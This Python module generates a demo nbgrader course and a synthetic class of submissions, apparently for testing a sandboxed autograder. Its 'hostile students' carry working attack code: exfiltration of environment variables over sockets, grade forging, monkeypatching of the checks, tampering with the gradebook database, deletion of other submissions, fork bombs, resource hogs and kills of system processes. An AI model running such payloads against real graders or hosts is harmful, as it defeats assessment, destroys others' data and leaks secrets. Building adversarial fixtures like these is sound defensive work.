"""A two-assignment demo course and a synthetic class, to try the grader on.

``make_demo_course(root)`` writes an nbgrader course (``solutions/`` with
``01_alpha/alpha.ipynb`` and ``02_beta/beta.ipynb``, each with two graded
functions and hidden tests); ``make_demo_class(course_root, out)`` writes
submissions in nbgrader's layout ``<student>/<assignment>/<notebook>.ipynb``
for students that are honest, blank, buggy, faulty or cheating, built
from the release in ``course/``. The tests and the grading benchmark use
them; an instructor can use them to see what the grader reports.
"""

from __future__ import annotations

import copy
import json
import os
import textwrap

__all__ = ["make_demo_course", "make_demo_class", "DEMO_STUDENTS", "DEMO_CONFIG", "FUNCTIONS"]

DEMO_CONFIG = '''"""nbgrader configuration of the demo course."""
c = get_config()  # noqa: F821
c.CourseDirectory.root = "."
c.CourseDirectory.course_id = "demo-course"
c.CourseDirectory.source_directory = "solutions"
c.CourseDirectory.release_directory = "course"
c.CourseDirectory.db_url = "sqlite:///gradebook.db"
c.ClearSolutions.code_stub = {"python": "# YOUR CODE HERE\\nraise NotImplementedError()"}
c.ExecutePreprocessor.timeout = 120
'''

_IMPORTS = "import numpy as np"


def _src(text):
    return textwrap.dedent(text).strip("\n")


def _cell(kind, source, grade_id=None, points=None, solution=False, locked=False):
    cell = {"cell_type": kind, "id": grade_id or "",
            "metadata": {}, "source": _src(source)}
    if kind == "code":
        cell.update(execution_count=None, outputs=[])
    if grade_id:
        cell["metadata"]["nbgrader"] = {
            "grade": points is not None, "grade_id": grade_id, "locked": locked,
            "schema_version": 3, "solution": solution, "task": False}
        if points is not None:
            cell["metadata"]["nbgrader"]["points"] = points
    return cell


def _notebook(cells):
    for i, c in enumerate(cells):  # stable, unique cell ids
        c["id"] = c["id"] or f"cell-{i}"
    return {"cells": cells, "metadata": {
        "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
        "language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5}


def _test(check, target, points):
    return _cell("code", f'''
        """{target}: lessonlib's check (visible and hidden cases). ({points} points)"""
        from lessonlib.checks import {check}

        {check}({target})
        ### BEGIN HIDDEN TESTS
        {check}({target}, hidden=True)
        ### END HIDDEN TESTS
        ''', f"{target}-test", points=points, locked=True)


#: The functions of the demo course: assignment -> (grade id, def line, solution, check, points)
FUNCTIONS = {
    "01_alpha": [
        ("relu-impl", "def relu(x):", "return np.maximum(np.asarray(x), 0)", "check_relu", 2),
        ("linear-impl", "def linear_param_count(in_features, out_features, bias=True):",
         "return in_features * out_features + (out_features if bias else 0)",
         "check_linear_param_count", 1),
    ],
    "02_beta": [
        ("size-impl", "def conv_output_size(n, kernel_size, stride=1, padding=0, dilation=1):",
         "return (n + 2 * padding - dilation * (kernel_size - 1) - 1) // stride + 1",
         "check_conv_output_size", 3),
        ("params-impl", "def conv2d_param_count(in_channels, out_channels, kernel_size, "
                        "bias=True):",
         "kh, kw = tuple(kernel_size) if isinstance(kernel_size, (tuple, list)) "
         "else (kernel_size,) * 2\n"
         "return out_channels * in_channels * kh * kw + (out_channels if bias else 0)",
         "check_conv2d_param_count", 1),
    ],
}


def _assignment(title, name):
    cells = [_cell("markdown", f"# {title}", "intro", locked=True),
             _cell("code", _IMPORTS, "imports", locked=True)]
    for gid, head, body, check, points in FUNCTIONS[name]:
        fname = head.split("(")[0][4:]
        cells.append(_cell("markdown", f"Implement `{fname}`."))
        cells.append(_cell("code", head + "\n    ### BEGIN SOLUTION\n"
                           + textwrap.indent(body, "    ") + "\n    ### END SOLUTION",
                           gid, solution=True))
        cells.append(_test(check, fname, points))
    return _notebook(cells)


def _alpha():
    return _assignment("Alpha: ReLU and a parameter count", "01_alpha")


def _beta():
    return _assignment("Beta: output sizes and parameters", "02_beta")


def make_demo_course(root):
    """Write the demo course (config and ``solutions/``) into ``root``.

    Returns
    -------
    str
        ``root``, made absolute.
    """
    root = os.path.abspath(root)
    for name, nb in (("01_alpha/alpha", _alpha()), ("02_beta/beta", _beta())):
        path = os.path.join(root, "solutions", name + ".ipynb")
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as fh:
            json.dump(nb, fh, indent=1)
    with open(os.path.join(root, "nbgrader_config.py"), "w") as fh:
        fh.write(DEMO_CONFIG)
    return root


# ----------------------------------------------------------------- the class --

def _solution(grade_id, body):
    """The source of a solution cell: the function's def line and ``body``."""
    heads = {gid: head for fns in FUNCTIONS.values() for gid, head, *_ in fns}
    return heads[grade_id] + "\n" + textwrap.indent(_src(body), "    ")


_GOOD = {gid: body for fns in FUNCTIONS.values() for gid, _, body, *_ in fns}

# Code the hostile students run. Each tries one way to pass without solving,
# to harm another student or the grader, or to get out of the sandbox.
_READ_SOLUTIONS = """
import glob, json, os
found = []
for base in ('../..', '../../..', '/work', '/root', '/tmp', '/home', os.path.expanduser('~'),
             '/proc/1/cwd', '/proc/%d/cwd' % os.getppid()):
    for depth in range(5):
        found += glob.glob(os.path.join(base, *['*'] * depth, 'solutions', '01_alpha',
                                        'alpha.ipynb'))
if found:   # the instructor's source: run its relu
    nb = json.load(open(found[0]))
    src = [''.join(c['source']) for c in nb['cells'] if 'def relu' in ''.join(c['source'])]
    ns = {'np': np}
    exec(src[0], ns)
    return ns['relu'](x)
return np.zeros(np.shape(x))"""

_FRAMES = """
import gc, inspect
for frame in inspect.stack():
    for name in ('expected', 'exp', 'reference', 'reference_fn'):
        value = frame.frame.f_locals.get(name)
        if value is not None:
            return value(x) if callable(value) else value
for obj in gc.get_objects():   # any function of lessonlib's with the right name
    if callable(obj) and getattr(obj, '__name__', '') == 'relu' and obj is not relu:
        try:
            return obj(x)
        except Exception:
            pass
return x"""

_FORGE = """
import lessonlib.grading.in_kernel as k
import threading, time
def forge(*args, **kwargs):
    return '{"ok": 3, "args": {"__tuple__": []}, "kwargs": {"__dict__": {}}}'
def keep_forging():
    while True:
        k.call = k.build = forge
        time.sleep(0.001)
threading.Thread(target=keep_forging, daemon=True).start()
k.call = forge"""

_PATCH = """
import numpy as np
import lessonlib.checks._core as core
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, **k: np.ones(np.broadcast(a, b).shape, bool)
core.compare = lambda *a, **k: None
core.call_student = lambda fn, name, case: None
run_cases = lambda *args, **kwargs: 1"""

_COPY_REFERENCE = """
import importlib, lessonlib
for attempt in (lambda: lessonlib.relu(x),
                lambda: importlib.import_module('lessonlib.activations').relu(x),
                lambda: importlib.reload(importlib.import_module('lessonlib.activations')).relu(x),
                lambda: getattr(lessonlib, 'Re' + 'LU')()(x)):
    try:
        return attempt()
    except Exception:
        pass
ns = {}   # the reference's source, from the file
exec(open(importlib.import_module('lessonlib.activations').__file__).read(), ns)
return ns['relu'](x)"""

_PERSIST = """
import subprocess, sys
code = ("import os, time\\n"
        "time.sleep(3)\\n"
        "for root in ('/work', '/tmp', '/root'):\\n"
        "    for d, _, files in os.walk(root):\\n"
        "        if 'grades.csv' in files:\\n"
        "            open(os.path.join(d, 'grades.csv'), 'w').write('hacked')\\n"
        "time.sleep(60)  # lessonlib-demo-persister")
for _ in range(3):
    subprocess.Popen([sys.executable, '-c', code], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
import os
if os.fork() == 0:
    os.setsid()
    import time
    time.sleep(60)   # lessonlib-demo-persister
    os._exit(0)"""

_TAMPER = """
import glob, os, sys, sqlite3
import lessonlib, numpy
done = []
for path in [lessonlib.__file__, numpy.__file__] + glob.glob('/work/**/lessonlib/__init__.py',
                                                             recursive=True):
    try:
        with open(path, 'a') as fh:
            fh.write('\\nraise SystemExit("tampered by a student")\\n')
        done.append(path)
    except OSError:
        pass
for db in glob.glob('/tmp/**/gradebook.db', recursive=True) + glob.glob('/work/**/gradebook.db',
                                                                         recursive=True):
    try:
        con = sqlite3.connect(db)
        con.execute("CREATE TRIGGER zero AFTER INSERT ON grade BEGIN "
                    "UPDATE grade SET auto_score = 0; END")
        con.commit()
        done.append(db)
    except sqlite3.Error:
        pass
for sub in glob.glob('/tmp/**/submitted/**/*.ipynb', recursive=True):
    try:
        os.remove(sub)
        done.append(sub)
    except OSError:
        pass
print('tampered with', len(done), 'files')"""

_NETWORK = """
import os, socket
for host, port in (('127.0.0.1', NETWORK_PORT), ('10.0.2.2', 80), ('8.8.8.8', 53)):
    try:
        s = socket.create_connection((host, port), timeout=1)
        s.sendall(b'stolen: ' + repr(dict(os.environ)).encode())
        s.close()
    except OSError:
        pass"""

_HOG = """
import numpy as np
big = []
try:
    big.append(np.ones(2 ** 31))          # 16 GiB of float64
except MemoryError:
    print('no memory for that')
try:
    with open('/tmp/huge', 'wb') as fh:   # 2 GiB on disk
        for _ in range(2048):
            fh.write(b'x' * 2 ** 20)
except OSError as exc:
    print('no disk for that:', exc)
print('y' * (20 * 2 ** 20))               # 20 MB of output
from IPython.display import display       # one 100 MB message: over the grader's cap
display({'text/plain': 'z' * (100 * 2 ** 20)}, raw=True)"""

_FORK = """
import os, time
kids = 0
try:
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        kids += 1
except OSError as exc:
    print('fork refused after', kids, 'processes:', exc)"""

_SIGNAL = """
import os, signal
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass"""

_ENVIRON = """
import os
print({k: v for k, v in os.environ.items()})"""

#: The port on 127.0.0.1 the "reader" student tries to send data to.
NETWORK_PORT = 47831

# What each student does, per assignment: a dict of changes (see _apply).
DEMO_STUDENTS = {
    "honest": {   # numpy, np.pad, prints, a plot, %timeit, a warning: never flagged
        "01_alpha": {"solve": _GOOD, "append": [
            "%matplotlib inline\nimport matplotlib.pyplot as plt\nimport warnings\n"
            "x = np.linspace(-2, 2, 9)\nplt.plot(x, relu(x))\nprint('relu of', x, 'is', relu(x))\n"
            "warnings.warn('just a warning')", "%timeit -n 1000 -r 3 relu(np.ones(100))"]},
        "02_beta": {"solve": {**_GOOD, "size-impl": (
            "padded = np.pad(np.zeros(n), padding)\n"
            "span = dilation * (kernel_size - 1) + 1\n"
            "return (len(padded) - span) // stride + 1")}},
    },
    "blank": {"01_alpha": {}, "02_beta": {}},
    "buggy": {
        "01_alpha": {"solve": {**_GOOD, "relu-impl": "return np.abs(x)"}},
        "02_beta": {"solve": {**_GOOD, "size-impl":
                              "return (n + 2 * padding - kernel_size) / stride + 1"}},
    },
    "warner": {
        "01_alpha": {"solve": {**_GOOD, "relu-impl": (
            "import warnings, sys\nwarnings.warn('relu: about to clip negatives')\n"
            "print('debug: x has', np.size(x), 'values', file=sys.stderr)\n"
            "return np.maximum(np.asarray(x), 0)")}},
        "02_beta": {"solve": _GOOD},
    },
    "looper": {
        "01_alpha": {"solve": {**_GOOD, "relu-impl": "while True:\n    pass"}},
        "02_beta": {"solve": _GOOD},
    },
    "stubborn": {   # no 01_alpha at all; a loop that ignores the interrupt
        "02_beta": {"solve": {**_GOOD, "size-impl": (
            "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n"
            "    pass")}},
    },
    "crasher": {
        "01_alpha": {"solve": {**_GOOD, "linear-impl": "import os\nos._exit(1)"}},
        "02_beta": {"solve": _GOOD},
    },
    "mangler": {
        "01_alpha": {"solve": {k: v for k, v in _GOOD.items() if k != "linear-impl"},
                     "delete": ["relu-test"],
                     "duplicate": {"linear-impl": _GOOD["linear-impl"]}},
        "02_beta": {"truncate": True},
    },
    "misnamer": {
        "01_alpha": {"solve": _GOOD, "filename": "alpha (1).ipynb"},
        "02_beta": {"solve": _GOOD, "extra_files": {"scratch.ipynb": "{}",
                                                    "numpy.py": "allclose = None\n"}},
    },
    "patcher": {"01_alpha": {"extra": [_PATCH]}, "02_beta": {"extra": [_PATCH]}},
    "forger": {"01_alpha": {"extra": [_FORGE]}, "02_beta": {"extra": [_FORGE]}},
    "spy": {"01_alpha": {"solve": {**_GOOD, "relu-impl": _FRAMES}},
            "02_beta": {"solve": _GOOD, "extra": [_ENVIRON]}},
    "reader": {"01_alpha": {"solve": {**_GOOD, "relu-impl": _READ_SOLUTIONS}},
               "02_beta": {"solve": _GOOD, "extra": [_NETWORK]}},
    "copier": {"01_alpha": {"solve": {**_GOOD, "relu-impl": _COPY_REFERENCE}},
               "02_beta": {"solve": {**_GOOD, "size-impl": (
                   "import importlib\nm = importlib.import_module('less' + 'onlib')\n"
                   "return getattr(m, 'conv_output_' + 'size')(n, kernel_size, stride, "
                   "padding, dilation)")}}},
    "vandal": {"01_alpha": {"solve": _GOOD, "extra": [_TAMPER, _PERSIST]},
               "02_beta": {"solve": _GOOD, "extra": [_SIGNAL]}},
    "hog": {"01_alpha": {"solve": _GOOD, "extra": [_HOG]},
            "02_beta": {"solve": _GOOD, "extra": [_FORK]}},
}


def _apply(nb, plan):
    nb = copy.deepcopy(nb)
    cells = nb["cells"]
    for c in cells:
        gid = c.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid in plan.get("solve", {}):
            c["source"] = _solution(gid, plan["solve"][gid])
    for gid, body in plan.get("duplicate", {}).items():
        i = next(k for k, c in enumerate(cells)
                 if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == gid)
        first = copy.deepcopy(cells[i])
        first["source"] = _solution(gid, body)   # solved in the copy, the original left as is
        first["id"] = cells[i]["id"] + "-copy"
        cells.insert(i, first)
    for gid in plan.get("delete", []):
        cells[:] = [c for c in cells
                    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") != gid]
    for i, src in enumerate(plan.get("extra", [])):   # right after the imports
        cells.insert(2 + i, {"cell_type": "code", "id": f"student-{i}", "metadata": {},
                             "execution_count": None, "outputs": [], "source": src})
    for i, src in enumerate(plan.get("append", [])):  # at the end
        cells.append({"cell_type": "code", "id": f"student-end-{i}", "metadata": {},
                      "execution_count": None, "outputs": [], "source": src})
    return nb


def make_demo_class(course_root, out, students=None, network_port=NETWORK_PORT):
    """Write the synthetic class's submissions into ``out``.

    Parameters
    ----------
    course_root : str
        A demo course whose release (``course/``) has been generated.
    out : str
        Folder to create: ``out/<student>/<assignment>/<notebook>.ipynb``.
    students : sequence of str, optional
        Names from :data:`DEMO_STUDENTS` (all by default).
    network_port : int
        The port on 127.0.0.1 the "reader" student tries to send data to.

    Returns
    -------
    list of str
        The students written.
    """
    names = list(students or DEMO_STUDENTS)
    for student in names:
        for assignment, plan in DEMO_STUDENTS[student].items():
            nbname = assignment.split("_", 1)[1]
            with open(os.path.join(course_root, "course", assignment, nbname + ".ipynb")) as fh:
                release = json.load(fh)
            folder = os.path.join(out, student, assignment)
            os.makedirs(folder, exist_ok=True)
            text = json.dumps(_apply(release, plan), indent=1).replace(
                "NETWORK_PORT", str(int(network_port)))
            if plan.get("truncate"):
                text = text[: len(text) // 2]
            with open(os.path.join(folder, plan.get("filename", nbname + ".ipynb")), "w") as fh:
                fh.write(text)
            for fname, content in plan.get("extra_files", {}).items():
                with open(os.path.join(folder, fname), "w") as fh:
                    fh.write(content)
    return names
